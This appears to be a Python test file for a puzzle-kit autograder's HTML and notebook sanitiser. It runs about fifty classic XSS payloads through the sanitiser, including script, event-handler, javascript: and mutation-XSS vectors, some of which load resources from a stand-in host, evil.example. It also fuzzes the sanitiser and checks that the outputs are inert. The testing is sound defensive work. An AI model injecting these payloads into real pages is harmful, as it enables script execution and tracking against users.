"""Outputs are data: the sanitiser against a corpus of XSS vectors, and the kit's own
drawings through it unchanged (puzzlekit.autograder.judge.sanitize)."""

from __future__ import annotations

import base64
import copy
import json

import nbformat
import pytest
from active_content import active_content
from hypothesis import given, settings
from hypothesis import strategies as st

import puzzlekit as pk
from puzzlekit.autograder.judge.sanitize import (
    SanitizeOutputs,
    clean_css,
    clean_data,
    clean_html,
    clean_markdown,
    clean_notebook,
    clean_svg,
    render_kit,
    with_sanitized_outputs,
)
from puzzlekit.errors import PuzzleError
from puzzlekit.visuals.display import KIT_MIME, diff_html, show, show_diff, show_path, show_pattern

START = ((8, 0, 6), (5, 4, 7), (2, 3, 1))

#: classic XSS vectors (OWASP's cheat sheet, the mutation-XSS classics of Heiderich et al.)
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" oNeRrOr = 'alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x61;script:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"/formgrader/api/grade/1\">x</a>",
    "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
    "<div style=\"background: url(//evil.example/track.png)\">x</div>",
    "<div style=\"cursor: url(//evil.example/c.cur), auto\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<div style=\"color: \\72 ed; background:\\75rl(x)\">x</div>",
    "<div style=\"position: fixed; top: 0; left: 0; width: 100%; height: 100%\">x</div>",
    "<div style=\"position: absolute; top: -5000px\">x</div>",
    "<style>@import url(//evil.example/x.css); body {display: none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"//evil.example/\">",
    "<form action=\"/formgrader/api/grade/1\" method=post><input name=x>"
    "<button>ok</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<div id=\"notebook\" class=\"btn full-credit\" name=grades>clobber</div>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_an_xss_vector_comes_out_inert(vector):
    clean = clean_html(vector)
    assert not active_content(clean), (vector, clean)
    assert clean_html(clean) == clean            # idempotent: the pages clean again


@pytest.mark.parametrize("raw_html", [True, False])
@pytest.mark.parametrize("vector", VECTORS)
def test_an_xss_vector_in_markdown_comes_out_inert(vector, raw_html):
    from nbconvert.filters import markdown2html
    rendered = markdown2html(clean_markdown("An answer: " + vector + "\n\nmore *text*",
                                            raw_html=raw_html))
    assert not active_content(rendered.replace('<div class="pk-markdown">', "<div>")), rendered


def test_the_page_shows_html_in_a_students_answer_as_text_and_keeps_the_given_cells():
    from nbconvert.filters import markdown2html

    from puzzlekit.autograder.judge.sanitize import SanitizePage
    given = nbformat.v4.new_markdown_cell("Given: H<sub>2</sub>O")
    given.metadata["nbgrader"] = {"locked": True, "solution": False, "grade": False}
    answer = nbformat.v4.new_markdown_cell('My answer: <img src="x" onerror="alert(1)">')
    answer.metadata["nbgrader"] = {"locked": False, "solution": True, "grade": True}
    added = nbformat.v4.new_markdown_cell("<b>bold</b> *words*")
    nb = nbformat.v4.new_notebook(cells=[given, answer, added])
    nb, _ = SanitizePage()(nb, {})
    pages = [markdown2html(c.source) for c in nb.cells]
    assert "<sub>2</sub>" in pages[0]
    assert "&lt;img src=&quot;x&quot; onerror=&quot;alert(1)&quot;&gt;" in pages[1]
    assert "&lt;b&gt;bold&lt;/b&gt; <em>words</em>" in pages[2]
    assert not any(active_content(p) for p in pages)


def test_markdown_links_and_text_survive_and_javascript_links_do_not():
    from nbconvert.filters import markdown2html
    source = ("*Model answer.* A [link](https://example.org) and [x](javascript:alert(1)),"
              "\n\n```python\nprint('<b>')\n```\n\n$x^2$ and <sub>2</sub>")
    html = markdown2html(clean_markdown(source))
    assert '<a href="https://example.org">link</a>' in html
    assert "javascript" not in html and "<em>Model answer.</em>" in html
    assert "$x^2$" in html and "<sub>2</sub>" in html
    assert "print" in html and "&lt;b&gt;" in html


def test_script_text_is_shown_as_text_not_run():
    assert clean_html("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"


def test_css_keeps_plain_declarations_and_drops_loading_or_escaping_ones():
    assert clean_css("color: red; background-color: #fff; border: 4px double darkblue") == \
        "color: red; background-color: #fff; border: 4px double darkblue"
    assert clean_css("color: rgb(1, 2, 3); width: calc(100% - 2px)") == \
        "color: rgb(1, 2, 3); width: calc(100% - 2px)"
    for bad in ("background: url(x)", "background-image: url('x')", "behavior: url(x.htc)",
                "position: fixed", "position: sticky", "top: -9000px", "background: \\75rl(x)",
                "width: expression(alert(1))", "font-family: 'a:b(c)'", "z-index: 9999",
                "transform: scale(100)", "content: 'x'", "background: image-set('x' 1x)"):
        assert clean_css(bad) == "", bad
    assert clean_css("color: \\72 ed") == "color: red"     # escapes read, never passed on
    assert clean_css("position: absolute; top: 1px; right: 2px") == \
        "position: absolute; top: 1px; right: 2px"


def test_svg_keeps_its_shapes_and_loses_its_scripts():
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="x()">'
           '<script>alert(1)</script><foreignObject><div>hi</div></foreignObject>'
           '<circle cx="20" cy="20" r="15" fill="red" onclick="x()"/>'
           '<use href="https://evil.example/a.svg#x"/><rect fill="url(#g)" width="1"/>'
           '<rect fill="url(https://evil.example/p)" width="2"/></svg>')
    clean = clean_svg(svg)
    assert "<circle" in clean and 'fill="red"' in clean and 'fill="url(#g)"' in clean
    for bad in ("script", "alert", "foreignObject", "onload", "onclick", "<use",
                "evil.example"):
        assert bad.lower() not in clean.lower(), (bad, clean)
    assert not active_content(clean, svg=True)


# ----------------------------------------------------------------------------- outputs


def output(data: dict, **kw: object) -> dict:
    return nbformat.from_dict({"output_type": "display_data", "data": data,
                               "metadata": kw.get("metadata", {})})


def test_scripts_widget_views_and_unknown_types_are_dropped():
    data = clean_data({"application/javascript": "alert(1)", "text/plain": "x",
                       "application/vnd.jupyter.widget-view+json": {"model_id": "1"},
                       "application/x-evil": "<script>"})
    assert data == {"text/plain": "x"}
    only_widget = clean_data({"application/vnd.jupyter.widget-view+json": {"model_id": "1"}})
    assert list(only_widget) == ["text/plain"] and "widget" in only_widget["text/plain"]
    only_js = clean_data({"application/javascript": "alert(1)"})
    assert list(only_js) == ["text/plain"]


def test_images_stay_and_their_metadata_keeps_only_sizes():
    png = base64.b64encode(b"\x89PNG\r\n\x1a\nrest").decode()
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x")])
    nb.cells[0].outputs = [output({"image/png": png, "text/plain": "<Figure>"},
                                  metadata={"image/png": {"width": 300, "src": "x"},
                                            "filenames": {"image/png": "../../x"}})]
    clean_notebook(nb)
    out = nb.cells[0].outputs[0]
    assert out.data["image/png"] == png and out.metadata == {"image/png": {"width": 300}}


def test_the_widget_state_is_dropped_from_the_notebook():
    nb = nbformat.v4.new_notebook()
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {"1": {"state": {"value": "<img src=x onerror=alert(1)>"}}}}}
    assert "widgets" not in clean_notebook(nb).metadata


def test_markup_too_large_to_check_is_not_parsed_and_says_so():
    from puzzlekit.autograder.judge.sanitize import MAX_MARKUP_CHARS
    huge = "<b>" + "x" * MAX_MARKUP_CHARS + "</b>"
    data = clean_data({"text/html": huge, "text/plain": "<a big table>"})
    assert "text/html" not in data and data["text/plain"].startswith("<a big table>\n(an output")
    assert "removed" in clean_data({"image/svg+xml": huge})["text/plain"]


def test_every_html_output_is_boxed_in_its_cell():
    html = clean_data({"text/html": "<b>hi</b>"})["text/html"]
    assert html.startswith('<div class="pk-output" style="position: relative; overflow: auto">')


# ----------------------------------------------------------------------------- the kit's drawings


def kit_views():
    path = pk.solve(START, algorithm="astar", heuristic="manhattan").path
    return {
        "board": show(START, overlay="manhattan", highlight=[1, (0, 0)], title="a board"),
        "board 4x4": show(pk.goal_state(4), overlay="linear_conflict"),
        "path": show_path(path[:6]),
        "path per row": show_path(path[:7], per_row=3, cell_size=20),
        "diff": show_diff(START, [[8, 6, 0], [5, 4, 7], [2, 3, 1]]),
        "diff None": show_diff(START, None),
        "diff junk": show_diff(START, [[1, 2.0], [3, "x"]]),
        "diff 1.0": show_diff(START, [[8.0, 0, 6], [5, 4, 7], [2, 3, 1]]),
        "pattern": show_pattern({1: 1, 2: 0, 3: 2}, ((1, 2, 3), (4, 5, 6), (7, 8, 0)),
                                title="a pattern"),
    }


def structure(html: str) -> list:
    """The element tree as a browser builds it (tbody inserted, quotes and the order of
    style declarations not kept)."""
    from bleach._vendor import html5lib
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)

    def walk(el):
        attrs = {}
        for k, v in el.attrib.items():
            attrs[k] = sorted(d.strip() for d in v.split(";") if d.strip()) if k == "style" \
                else v
        return [el.tag, attrs, (el.text or "").strip(),
                [walk(c) for c in el if isinstance(c.tag, str)], (el.tail or "").strip()]
    return [walk(c) for c in tree if isinstance(c.tag, str)]


@pytest.mark.parametrize("name", list(kit_views()))
def test_the_kits_drawings_survive_the_sanitiser_unchanged(name):
    view = kit_views()[name]
    assert structure(clean_html(view.data)) == structure(view.data)


@pytest.mark.parametrize("name", list(kit_views()))
def test_the_kits_drawings_are_drawn_again_from_their_data(name):
    view = kit_views()[name]
    bundle = view._repr_mimebundle_()
    json.dumps(bundle)                                      # plain data
    assert render_kit(json.loads(json.dumps(bundle[KIT_MIME]))) == view.data
    clean = clean_data(bundle)
    assert structure(clean["text/html"]) == structure(
        f'<div class="pk-output" style="position: relative; overflow: auto">{view.data}</div>')


def test_animations_and_their_static_strips_carry_their_data(monkeypatch):
    anim = pk.animate_path(pk.moves_to_path(pk.goal_state(3), "LU"))
    bundle = anim._repr_mimebundle_()
    clean = clean_data(json.loads(json.dumps(bundle)))
    # a live animation is redrawn as its static strip: every board of the path, no script
    assert "<script" not in clean["text/html"] and 'class="pk-path' in clean["text/html"]
    assert clean["text/html"].count('role="table"') == 3
    assert not active_content(clean["text/html"])
    layers = pk.animate_bfs_layers(pk.goal_state(2, 3), max_depth=4)._repr_mimebundle_()
    clean = clean_data(json.loads(json.dumps(layers)))
    assert "<script" not in clean["text/html"] and "1, 2, 3, 5, 6" in clean["text/html"]
    monkeypatch.setenv("NBGRADER_EXECUTION", "autograde")
    for strip in (pk.animate_path(pk.moves_to_path(pk.goal_state(3), "LU")),
                  pk.animate_bfs_layers(pk.goal_state(2, 3), max_depth=4)):
        b = strip._repr_mimebundle_()
        assert render_kit(json.loads(json.dumps(b[KIT_MIME]))) == strip.to_html()


def test_the_widgets_pictures_carry_their_data(monkeypatch):
    monkeypatch.setenv("NBGRADER_EXECUTION", "autograde")
    from puzzlekit.visuals.widgets import play, play_path
    for widget in (play(3, seed=1), play_path(pk.moves_to_path(pk.goal_state(3), "LULU"))):
        b = widget._repr_mimebundle_()
        assert structure(render_kit(json.loads(json.dumps(b[KIT_MIME])))) == \
            structure(b["text/html"])


FORGED = [
    {"kind": "board", "state": [[1, 2, 3], [4, 5, 6], [7, 8, "<script>"]]},
    {"kind": "board", "state": [[1, 2, 3], [4, 5, 6], [7, 8, 0]], "title": 5},
    {"kind": "board", "state": [[1, 2, 3], [4, 5, 6], [7, 8, 0]], "cell_size": 10 ** 9},
    {"kind": "path", "states": "<script>"},
    {"kind": "diff", "expected": [[1, 2], [3, 0]], "got": [["x" * 500]]},
    {"kind": "frames", "frames": ["PHNjcmlwdD4="]},
    {"kind": "exec", "code": "alert(1)"},
    "<script>alert(1)</script>",
]


@pytest.mark.parametrize("bundle", FORGED)
def test_a_forged_bundle_draws_nothing_and_its_html_is_sanitised_like_any(bundle):
    with pytest.raises(PuzzleError):
        render_kit(bundle)
    data = clean_data({KIT_MIME: bundle, "text/html": '<table class="pk-board" '
                       'onmouseover="alert(1)"><tr><td>1</td></tr></table><script>x</script>'})
    assert KIT_MIME not in data
    assert not active_content(data["text/html"]) and "&lt;script&gt;" in data["text/html"]


def test_a_forged_bundles_text_is_only_text():
    bundle = {"kind": "board", "state": [[1, 2, 3], [4, 5, 6], [7, 8, 0]],
              "title": "<img src=x onerror=alert(1)>", "note": "<script>alert(1)</script>"}
    html = clean_data({KIT_MIME: bundle})["text/html"]
    assert not active_content(html) and "&lt;img src=x" in html


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(list("<>\"'=/ &#;:x") + [
    "script", "img", "svg", "onerror", "javascript", "style", "url(", "math", "iframe",
    "href", "src", "a", "!--", "--", "\n", "\t", "\x00"]), max_size=40).map("".join))
def test_any_soup_of_html_pieces_comes_out_inert(soup):
    clean = clean_html(soup)
    assert not active_content(clean), (soup, clean)


# ----------------------------------------------------------------------------- the pipeline


def test_the_autograde_steps_sanitise_right_after_the_execute_step():
    from nbgrader.converters.autograde import Autograde
    from nbgrader.preprocessors import LimitOutput

    from puzzlekit.autograder.judge.autograde import WalledExecute, with_walled_execute
    steps = with_walled_execute(Autograde.class_traits()["autograde_preprocessors"].default())
    at = steps.index(WalledExecute)
    assert steps[at + 1] is SanitizeOutputs and steps.index(LimitOutput) > at + 1
    assert with_sanitized_outputs(steps) == steps              # once


def test_the_preprocessor_cleans_a_notebook_in_place():
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x"),
                                         nbformat.v4.new_markdown_cell("<script>x</script>")])
    nb.cells[0].outputs = [output({"text/html": "<img src=x onerror=alert(1)>"})]
    before = copy.deepcopy(nb.cells[1])
    nb, _ = SanitizeOutputs()(nb, {})          # as an exporter calls it (enabled)
    assert not active_content(nb.cells[0].outputs[0].data["text/html"])
    assert nb.cells[1] == before          # the student's markdown is kept; pages clean it


def test_a_diff_of_a_value_that_is_no_board_shows_its_text_inert():
    html = diff_html(START, "<script>alert(1)</script>")
    assert not active_content(clean_html(html)) and "&lt;script&gt;" in html


JSON = st.recursive(st.none() | st.booleans() | st.integers(-3, 20) | st.floats(allow_nan=False)
                    | st.text(max_size=12), lambda inner: st.lists(inner, max_size=4)
                    | st.dictionaries(st.text(max_size=6), inner, max_size=3), max_leaves=20)
BOARD = st.sampled_from([[[1, 2, 3], [4, 5, 6], [7, 8, 0]], [[1, 2], [3, 0]],
                         [[8, 0, 6], [5, 4, 7], [2, 3, 1]]])
FIELDS = ["state", "goal", "states", "moves", "per_row", "cell_size", "highlight", "overlay",
          "title", "expected", "got", "got_text", "got_kind", "problem", "differ", "labels",
          "pattern", "frames", "size", "sizes", "boards", "note", "note_bold"]


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(["board", "path", "diff", "pattern", "frames", "layers", "other"]),
       st.dictionaries(st.sampled_from(FIELDS), JSON | BOARD | st.lists(BOARD, max_size=3),
                       max_size=6))
def test_any_bundle_draws_a_board_or_nothing_never_an_error(kind, fields):
    data = clean_data({KIT_MIME: {"kind": kind, **fields}, "text/plain": "x"})
    assert not active_content(data.get("text/html", ""))


def test_an_answer_with_a_pasted_image_shows_it_and_a_missing_one_does_not_break_the_page():
    from nbconvert.filters import markdown2html

    from puzzlekit.autograder.judge.sanitize import SanitizePage
    png = base64.b64encode(b"\x89PNG\r\n\x1a\nrest").decode()
    pasted = nbformat.v4.new_markdown_cell("my sketch: ![a.png](attachment:a.png)")
    pasted.attachments = {"a.png": {"image/png": png, "text/html": "<script>x</script>"}}
    gone = nbformat.v4.new_markdown_cell("gone: ![b.png](attachment:b.png) <b>x</b>")
    nb, _ = SanitizePage()(nbformat.v4.new_notebook(cells=[pasted, gone]), {})
    first, second = (markdown2html(c.source) for c in nb.cells)
    assert f'<img src="data:image/png;base64,{png}" alt="a.png">' in first
    assert "<pre>gone: ![b.png](attachment:b.png) &lt;b&gt;x&lt;/b&gt;</pre>" in second
    assert not active_content(first) and not active_content(second)
